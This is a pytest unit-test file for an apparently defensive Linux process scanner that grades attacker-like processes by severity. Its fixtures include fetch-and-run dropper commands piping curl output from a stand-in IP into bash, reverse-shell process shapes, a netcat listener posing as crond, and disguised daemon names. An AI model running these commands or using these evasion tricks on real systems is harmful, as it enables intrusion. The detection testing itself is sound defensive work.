# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What attackers' processes look like, and what is said of each: subtype, class, severity."""

from __future__ import annotations

import os
import typing as t

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils._net_sockets import Socket
from ansible_collections.bulwark.servers.plugins.module_utils._proc_status import Capabilities
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.checks import origin
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.model import Process
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.proc import details

from tests.unit.plugins.module_utils.memory_scan._memory import mapping
from tests.unit.plugins.module_utils.memory_scan._processes import (
    ALL,
    MOUNTS,
    FakeHost,
    FakeSurroundings,
    ProcessView,
    connection,
    file,
    graded,
    listener,
    number_of,
    process,
    signs,
)

_STARTED = 1_000_000.0 + 1000
_SYS = Capabilities(1 << 21, 1 << 21, 0, ALL, 0)
_RAW = Capabilities(1 << 13, 1 << 13, 0, ALL, 0)
_PIPES = {0: "pipe:[1]", 1: "pipe:[2]", 2: "pipe:[3]"}
_SOCKET = {0: "socket:[9]", 1: "socket:[9]", 2: "socket:[9]"}
_CONTAINER = {"container": "a" * 64, "mounts": 777, "device": 88}

INIT = process("/usr/lib/systemd/systemd", "/sbin/init", pid=1, parent=0)
SHELL = process("/usr/bin/bash", "-bash", pid=12, user=1000)
MANAGER = process("/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd", "--user", pid=13, user=1000)
EXPLOIT = process("/tmp/x", pid=14, user=33, owner=33)
DROPPER = process("/usr/bin/dash", "sh", "-c", "curl -s http://198.51.100.7/a | bash", pid=15)
CURL = process("/usr/bin/curl", "curl", "-s", "x", pid=16, session=500, files={1: "pipe:[1]"})
SSHD = process("/usr/sbin/sshd", pid=17)
INETD = process("/usr/sbin/xinetd", pid=18, files=_SOCKET)
MEMORY = process("/usr/bin/perl", pid=19, files={5: "/memfd:x (deleted)"})
SUBSTITUTING = process("/usr/bin/bash", "bash", "-c", "bash <(curl -s http://198.51.100.7/a); true", pid=20)
_PEERS = (INIT, SHELL, MANAGER, EXPLOIT, DROPPER, CURL, SSHD, INETD, MEMORY, SUBSTITUTING)


class Row(t.NamedTuple):
    one: Process
    seen: set[tuple[str, str, str]]
    sockets: tuple[Socket, ...] = ()
    unpackaged: tuple[bytes, ...] = ()


def _high(subtype: str) -> set[tuple[str, str, str]]:
    return {(subtype, "technique", "high")}


def _behavior(subtype: str, severity: str = "low") -> set[tuple[str, str, str]]:
    return {(subtype, "behavior", severity)}


_PACKET = (listener("packet"),)
_PYTHON = "/usr/bin/python3.13"

ROWS: dict[str, Row] = {
    "memfd": Row(process("/memfd:x", "x", deleted=True, file_system="memfd"), _high("memfd_executable")),
    "memfd called as runc's": Row(
        process("/memfd:runc_cloned:/proc/self/exe", "runc", "init", deleted=True), _high("memfd_executable")
    ),
    "memfd in a container": Row(process("/memfd:x", "x", deleted=True, **_CONTAINER), _high("memfd_executable")),
    "shared memory": Row(process("/SYSV00000000", "x", deleted=True), _high("memfd_executable")),
    "deleted in /tmp": Row(process("/tmp/x", deleted=True, user=33, owner=33), _high("deleted_executable")),
    "deleted in /tmp of a container": Row(process("/tmp/x", deleted=True, **_CONTAINER), _high("deleted_executable")),
    "deleted at home": Row(process("/root/x", deleted=True), _high("deleted_executable")),
    "deleted in /usr": Row(process("/usr/bin/x", deleted=True), _high("deleted_executable"), (), (b"/usr/bin/x",)),
    "put back": Row(process("/usr/bin/cron", deleted=True), _behavior("executable_replaced", "medium")),
    "decoy in /tmp": Row(process("/tmp/decoy", deleted=True), _behavior("executable_replaced", "medium")),
    "directory in its place": Row(process("/opt/directory", deleted=True), _high("deleted_executable")),
    "decoy of somebody else": Row(process("/tmp/decoy", deleted=True, owner=33), _high("deleted_executable")),
    "never had a name": Row(process("/usr/#1234", "x", deleted=True), _high("deleted_executable")),
    "deleted by its user": Row(
        process("/home/ada/x", deleted=True, user=1000, owner=1000), _behavior("executable_removed")
    ),
    "deleted where nobody answers": Row(process("/mnt/stalled/x", deleted=True), _behavior("executable_removed")),
    "in /tmp": Row(process("/tmp/x"), _behavior("temporary_executable")),
    "in /tmp, of a service": Row(process("/tmp/x", user=33, owner=33), _behavior("temporary_executable", "medium")),
    "in /tmp, connected": Row(
        process("/tmp/x", user=1000, files={3: "socket:[9]"}),
        _behavior("temporary_executable", "medium"),
        (connection(9),),
    ),
    "hidden in /var/tmp": Row(process("/var/tmp/.x/y"), _behavior("temporary_executable", "medium")),
    "dots": Row(process("/tmp/.../y", user=1000), _behavior("temporary_executable", "medium")),
    "in /dev/shm": Row(process("/dev/shm/y", user=1000), _behavior("temporary_executable", "medium")),
    "on tmpfs": Row(process("/srv/x/y", file_system="tmpfs", device=9), _behavior("temporary_executable", "medium")),
    "on tmpfs in /opt": Row(
        process("/opt/x", file_system="tmpfs", device=9), _behavior("temporary_executable", "medium")
    ),
    "forged AppImage": Row(process("/tmp/.mount_x/y", user=1000), _behavior("temporary_executable")),
    "hidden in /usr": Row(process("/usr/lib/.x/y"), _behavior("hidden_executable"), (), (b"/usr/lib/.x/y",)),
    "loader": Row(
        process("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld", "/tmp/x"), _high("loader_runs_program")
    ),
    "loader with options": Row(
        process("/usr/lib/ld-musl-x86_64.so.1", "ld", "--preload", "/usr/x", "x", directory=b"/dev/shm"),
        _high("loader_runs_program"),
    ),
    "loader, relative": Row(
        process("/usr/lib/ld-linux-aarch64.so.1", "ld", "--argv0", "sshd", "./x", directory=b"/tmp"),
        _high("loader_runs_program"),
    ),
    "kernel thread in brackets": Row(process("/usr/bin/perl", "[kworker/0:1]"), _high("kernel_thread_name")),
    "kernel thread's name": Row(process("/opt/x", "x", name="kworker/u8:2"), _high("kernel_thread_name")),
    "kswapd0": Row(process("/root/.a/kswapd0", "kswapd0"), _high("kernel_thread_name")),
    "kernel thread, not seen": Row(process(None, "", name="[kthreadd]"), _high("kernel_thread_name")),
    "one word in brackets": Row(process("/opt/x", "[sync_supers2]"), _behavior("bracketed_name")),
    "daemon from /tmp": Row(
        process("/tmp/x", "/usr/sbin/sshd"),
        _high("system_program_name") | _behavior("temporary_executable"),
    ),
    "daemon of the same name": Row(
        process("/dev/shm/sshd", "/usr/sbin/sshd", "-D"),
        _high("system_program_name") | _behavior("temporary_executable", "medium"),
    ),
    "daemon at home": Row(process("/root/x", "systemd-resolved"), _high("system_program_name")),
    "daemon by short name": Row(process("/root/x", "x", name="dbus-daemon"), _high("system_program_name")),
    "daemon in perl": Row(process("/usr/bin/perl", "/usr/sbin/apache2 -k start"), _high("system_program_name")),
    "daemon is a shell": Row(
        process("/usr/bin/bash", "sshd: ada [priv]", files={0: "/dev/null"}), _high("system_program_name")
    ),
    "daemon is netcat": Row(process("/usr/bin/nc.openbsd", "crond", "-lp", "99"), _high("system_program_name")),
    "another program of the system": Row(process("/root/x", "/usr/bin/vi"), _high("system_program_name")),
    "daemon in /opt": Row(process("/opt/x/y", "sshd"), _behavior("contradicting_name")),
    "space at the end": Row(process("/root/sshd ", "sshd", name="sshd "), _behavior("deceptive_name")),
    "invisible": Row(process("/root/a", "a", name="ssh\u200bd"), _behavior("deceptive_name")),
    "control in the command line": Row(process("/root/a", "a\x1b[2K"), _behavior("deceptive_name")),
    "likeness": Row(process("/root/a", "a", name="\u0455shd"), _behavior("deceptive_name")),
    "likeness, whole": Row(process("/root/a", "a", name="\u0441r\u043en"), _behavior("deceptive_name")),
    "dots for a name": Row(process("/root/..", "..", name=".."), _behavior("deceptive_name")),
    "no name": Row(process("/root/a", "a", name=""), _behavior("deceptive_name")),
    "no command line": Row(process("/root/a", arguments=()), _behavior("command_line_erased")),
    "blank command line": Row(process("/root/a", " ", "", ""), _behavior("command_line_erased")),
    "script in memory": Row(
        process(_PYTHON, "python3", "/proc/self/fd/3", files={0: "/dev/null", 3: "/memfd:x (deleted)"}),
        _high("interpreter_from_memory"),
    ),
    "script in memory of another": Row(
        process(_PYTHON, "python3", "/proc/19/fd/5", files={0: "/dev/null"}), _high("interpreter_from_memory")
    ),
    "script in memory as input": Row(
        process("/usr/bin/perl", "perl", files={0: "/memfd: (deleted)"}), _high("interpreter_from_memory")
    ),
    "script in memory that bash holds": Row(
        process("/usr/bin/bash", "bash", "/x", files={0: "/dev/null", 255: "/memfd:x (deleted)"}),
        _high("interpreter_from_memory"),
    ),
    "script that was closed": Row(
        process("/usr/bin/node", "node", "/dev/fd/9"), _behavior("interpreter_closed_script", "informational")
    ),
    "script that was deleted": Row(
        process("/usr/bin/perl", "perl", "/tmp/a.pl", user=1000), _behavior("interpreter_deleted_script")
    ),
    "script that bash holds": Row(
        process("/usr/bin/bash", "bash", "a.sh", files={0: "/dev/null", 255: "/tmp/a.sh (deleted)"}),
        _behavior("interpreter_deleted_script"),
    ),
    "deleted input": Row(
        process("/usr/bin/dash", "sh", files={0: "/tmp/a (deleted)"}), _behavior("interpreter_deleted_script")
    ),
    "pipe": Row(
        process(_PYTHON, "python3", "-", parent=12, user=1000, files=_PIPES),
        _behavior("interpreter_from_pipe", "informational"),
    ),
    "pipe from curl": Row(
        process("/usr/bin/bash", "bash", parent=15, files=_PIPES), _behavior("interpreter_from_pipe")
    ),
    "pipe from curl that runs": Row(
        process("/usr/bin/bash", "bash", parent=12, user=1000, session=500, files=_PIPES),
        _behavior("interpreter_from_pipe"),
    ),
    "substitution": Row(
        process("/usr/bin/bash", "bash", "/dev/fd/63", parent=12, user=1000, files={0: "/dev/null", 63: "pipe:[8]"}),
        _behavior("interpreter_from_pipe", "informational"),
    ),
    "substitution of curl": Row(
        process("/usr/bin/bash", "bash", "/dev/fd/63", parent=12, user=1000, session=500, files={63: "pipe:[1]"}),
        _behavior("interpreter_from_pipe"),
    ),
    "substitution of curl that has ended": Row(
        process("/usr/bin/bash", "bash", "/dev/fd/63", parent=20, files={0: "/dev/null", 63: "pipe:[8]"}),
        _behavior("interpreter_from_pipe"),
    ),
    "unmounted": Row(
        process("/update", unreadable={"status": details.NOT_MOUNTED}), _behavior("detached_executable", "medium")
    ),
    "unmounted, as the initial RAM disk": Row(
        process("/sbin/mdmon", "@sbin/mdmon", unreadable={"status": details.NOT_MOUNTED}),
        _behavior("detached_executable"),
    ),
    "left behind": Row(process("/usr/bin/bash", "bash", files=_PIPES), _behavior("interpreter_from_pipe")),
    "pipe, connected": Row(
        process(_PYTHON, "python3", files={**_PIPES, 3: "socket:[9]"}),
        {("piped_program_connected", "technique", "medium")},
        (connection(9),),
    ),
    "pipe, connected here": Row(
        process(_PYTHON, "python3", files={**_PIPES, 3: "socket:[9]"}),
        _behavior("interpreter_from_pipe"),
        (connection(9, "::ffff:127.0.0.1"),),
    ),
    "reverse shell": Row(
        process("/usr/bin/bash", "bash", "-i", files=_SOCKET), _high("shell_on_connection"), (connection(9),)
    ),
    "reverse shell with a title": Row(
        process("/usr/bin/dash", "worker", files=_SOCKET), _high("shell_on_connection"), (connection(9, "127.0.0.1"),)
    ),
    "reverse shell in python": Row(
        process(_PYTHON, "python3", "-c", "x", files=_SOCKET), _high("shell_on_connection"), (connection(9),)
    ),
    "reverse shell of busybox": Row(
        process("/usr/bin/busybox", "sh", files=_SOCKET), _high("shell_on_connection"), (connection(9),)
    ),
    "reverse shell of busybox by its own name": Row(
        process("/usr/bin/busybox", "busybox", "sh", "-i", files=_SOCKET),
        _high("shell_on_connection"),
        (connection(9),),
    ),
    "reverse shell by a copy of a shell": Row(
        process("/usr/local/bin/agent", size=1_234_567, files=_SOCKET), _high("shell_on_connection"), (connection(9),)
    ),
    "root below an exploit": Row(process("/usr/bin/bash", "sh", parent=14), _high("root_without_way")),
    "root from /tmp": Row(
        process("/tmp/y", parent=12, owner=1000), _high("root_without_way") | _behavior("temporary_executable")
    ),
    "root from a home": Row(process("/home/ada/y", parent=12, owner=1000), _high("root_without_way")),
    "root from a home, adopted": Row(
        process("/home/ada/y", parent=13, owner=1000), {("root_without_way", "technique", "medium")}
    ),
    "root's shell below a user": Row(process("/usr/bin/bash", "bash", parent=12), _behavior("root_below_user")),
    "set-uid shell": Row(
        process("/usr/bin/bash", "bash", "-p", user=(1000, 0, 0, 0), mode=0o4755), _high("set_user_program")
    ),
    "set-uid in /tmp": Row(
        process("/tmp/x", user=(1000, 0, 0, 0), mode=0o4755),
        _high("set_user_program") | _behavior("temporary_executable"),
    ),
    "capabilities kept": Row(
        process("/tmp/x", user=1000, capabilities=_SYS),
        _high("capabilities_without_way") | _behavior("temporary_executable"),
    ),
    "capabilities at home": Row(
        process("/home/ada/x", user=1000, capabilities=_SYS), _behavior("unexpected_capabilities", "medium")
    ),
    "capabilities of a shell": Row(
        process("/usr/bin/bash", "bash", user=1000, capabilities=_SYS), _behavior("unexpected_capabilities")
    ),
    "raw socket's capability": Row(
        process("/home/ada/x", user=1000, capabilities=_RAW), _behavior("unexpected_capabilities", "informational")
    ),
    "packets under another name": Row(
        process("/opt/x", "[kworker/u8:2]", files={3: "socket:[77]"}),
        _high("packet_socket") | _high("kernel_thread_name"),
        _PACKET,
    ),
    "packets of what is deleted": Row(
        process("/dev/shm/x", deleted=True, files={3: "socket:[77]"}),
        _high("packet_socket") | _high("deleted_executable"),
        _PACKET,
    ),
    "packets in perl as a daemon": Row(
        process("/usr/bin/perl", "/usr/sbin/ntpd", files={3: "socket:[77]"}),
        _high("packet_socket") | _high("system_program_name"),
        (listener("raw"),),
    ),
    "packets in python": Row(
        process(_PYTHON, "python3", "/opt/x.py", files={3: "socket:[77]"}),
        _behavior("packet_socket_unpackaged", "informational"),
        _PACKET,
    ),
}


def _host(row: Row) -> FakeHost:
    there = {
        b"/usr/bin/cron": file(1),
        b"/tmp/decoy": file(2),
        b"/opt/directory": file(3, mode=0),
        b"/usr/bin/bash": file(4, size=1_234_567),
    }
    around = FakeSurroundings(there, {b"/usr/bin/vi": b"/usr/bin/vim.basic"}, installed=0)
    return FakeHost([*_PEERS, row.one], around, {row.one.pid: row.sockets}, row.unpackaged)


@pytest.mark.parametrize("what", ROWS)
def test_attackers_are_seen(what: str) -> None:
    row = ROWS[what]
    assert graded(signs(row.one, _host(row))) == row.seen


def test_a_container_runtime_is_known_by_its_content_and_not_by_its_name() -> None:
    one = process("/memfd:runc_cloned:/proc/self/exe", "runc", "init", deleted=True, size=10)
    assert [sign.subtype for sign in signs(one, FakeHost([one]), executable="/bin/sh")] == ["memfd_executable"]


@pytest.mark.parametrize(
    ("shim", "expected"), [("/usr/bin/shim", ["runtime_in_memory"]), ("/home/ada/shim", ["memfd_executable"])]
)
def test_a_container_runtime_lies_beside_what_uses_it(
    monkeypatch: pytest.MonkeyPatch, shim: str, expected: list[str]
) -> None:
    monkeypatch.setattr(origin, "_RUNTIMES", (b"bash",))
    monkeypatch.setattr(origin, "_RUNTIME_DIRECTORIES", ())
    above = process(shim)
    size = os.stat("/usr/bin/bash").st_size
    one = process("/memfd:runc_cloned:/proc/self/exe", "runc", deleted=True, size=size, parent=above.pid)
    assert [sign.subtype for sign in signs(one, FakeHost([above, one]), executable="/usr/bin/bash")] == expected


@pytest.mark.parametrize(
    ("one", "covered", "expected"),
    [
        (process("/usr/sbin/cron"), [b"/usr/sbin/cron"], ["covered_executable"]),
        (process("/usr/sbin/cron"), [], []),
        (process("/usr/local/sbin/agent"), [b"/usr/local/sbin/agent"], []),
    ],
)
def test_a_program_that_is_mounted_over_a_packaged_one(one: Process, covered: list[bytes], expected: list[str]) -> None:
    host = FakeHost([one], FakeSurroundings(covered=covered))
    assert [sign.subtype for sign in signs(one, host, executable="/bin/sh")] == expected


def test_what_a_package_does_not_tell_is_no_accusation() -> None:
    one, other = process("/usr/sbin/cron"), process("/usr/sbin/cron", mounts=MOUNTS + 1)
    around = FakeSurroundings(there={b"/": file(2)}, covered=[b"/usr/sbin/cron"])
    host = FakeHost([one, other], around)
    host.digests = False
    for each in (one, other):
        assert [sign.severity for sign in signs(each, host, executable="/bin/sh")] == ["low"]


@pytest.mark.parametrize(
    ("there", "covered", "expected"),
    [
        ({b"/": file(2)}, b"/usr/sbin/cron", ["covered_executable"]),
        ({b"/": file(2)}, b"/", []),  # of another root file system
        ({}, b"/usr/sbin/cron", []),
        ({b"/": file(2), b"/usr/sbin/cron": file(number_of(b"/usr/sbin/cron"))}, b"/usr/sbin/cron", []),
    ],
)
def test_a_program_that_its_user_mounted_over_the_systems(
    there: dict[bytes, os.stat_result], covered: bytes, expected: list[str]
) -> None:
    one = process("/usr/sbin/cron", mounts=MOUNTS + 1)
    host = FakeHost([one], FakeSurroundings(there=there, covered=[covered]))
    assert [sign.subtype for sign in signs(one, host, executable="/bin/sh")] == expected


def test_the_loader_is_seen_by_what_is_mapped_whatever_it_was_called_with() -> None:
    one = process("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld.so", "/usr/bin/true")
    maps = [mapping(4096, 4096, path=b"/memfd:x", deleted=True, inode=5)]
    assert graded(signs(one, FakeHost([one]), maps=maps)) == _high("loader_runs_program")


def test_what_a_daemon_runs_for_a_connection_is_its_own_matter() -> None:
    one = process("/usr/bin/dash", "sh", "-c", "date", parent=18, files=_SOCKET)
    assert signs(one, FakeHost([*_PEERS, one], sockets={one.pid: [connection(9)]})) == []


@pytest.mark.parametrize(
    ("ways", "doas", "severity"), [(True, False, "low"), (True, True, "informational"), (False, False, "medium")]
)
def test_root_below_a_user_counts_by_the_ways_that_the_host_has(ways: bool, doas: bool, severity: str) -> None:
    one = process("/usr/bin/bash", "bash", parent=12)
    found = signs(one, FakeHost([*_PEERS, one], FakeSurroundings(ways=ways, doas=doas)))
    assert graded(found) == _behavior("root_below_user", severity)


def test_an_upgrade_under_way_is_none_of_ours() -> None:
    one = process("/usr/sbin/nginx", "nginx: worker process", deleted=True)
    there = {b"/usr/sbin/nginx.dpkg-tmp": file(1)}
    assert signs(one, FakeHost([one], FakeSurroundings(there, upgrading=True))) == []
    left_there = signs(one, FakeHost([one], FakeSurroundings(there)))
    assert graded(left_there) == _high("deleted_executable")


def test_what_was_removed_with_its_package_is_told_apart_from_what_somebody_deleted() -> None:
    one = process("/usr/bin/python3.11", "python3", "/usr/bin/fail2ban-server", deleted=True)
    host = FakeHost([one], FakeSurroundings(installed=_STARTED + 5), unpackaged=[b"/usr/bin/python3.11"])
    assert graded(signs(one, host)) == _behavior("executable_removed")


def test_what_cannot_be_asked_is_in_the_coverage() -> None:
    one = process("/mnt/stalled/x", deleted=True)
    view = ProcessView(one)
    list(origin.check(view, FakeHost([one])))
    assert view.skipped == [
        "the file at the path of its deleted executable: what is there now is on a file system that isn't asked (fuse)"
    ]


def test_details_show_no_secrets_and_nothing_that_a_terminal_would_obey() -> None:
    one = process("/root/x\x1b[2J", "sshd --password=hunter2\x1b", name="kworker/0:0\n")
    text = " ".join(sign.detail for sign in signs(one, FakeHost([one])))
    assert "hunter2" not in text
    assert text.isprintable()
